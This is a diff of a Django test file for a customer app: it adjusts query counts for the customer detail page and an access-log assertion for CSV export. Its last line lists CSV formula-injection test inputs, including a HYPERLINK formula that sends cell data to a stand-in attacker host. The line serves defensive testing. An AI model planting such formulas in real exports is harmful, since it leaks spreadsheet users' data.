@@ -19,8 +19,9 @@ CREATE_URL = reverse("customers:customer-create")
 EXPORT_URL = reverse("customers:customer-export")
 # Measured, and constant in the number of customers shown (see the tests below).
 LIST_QUERIES = 11  # + tier and segment filter choices (segmentation)
-# The 360° page: every panel in a fixed number of queries (+2 tier/RFM/segment badges, +2 complaints).
-DETAIL_QUERIES = 26
+# The 360° page: every panel in a fixed number of queries
+# (+2 tier/RFM/segment badges, +2 complaints, +3 consent card).
+DETAIL_QUERIES = 29
 
 
 def detail_url(customer):
@@ -810,7 +811,7 @@ def test_export_follows_the_list_filters(client, supervisor, customer, colleague
     # then
     rows = read_csv(response)
     assert [row[0] for row in rows[1:]] == [str(customer.pk)]
-    assert list(AccessLog.objects.values_list("customer_id", "path")) == [(customer.pk, f"{EXPORT_URL}?q=chan")]
+    assert list(AccessLog.objects.values_list("customer_id", "path")) == [(customer.pk, EXPORT_URL)]
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "@SUM(1+1)", "-2+3"])
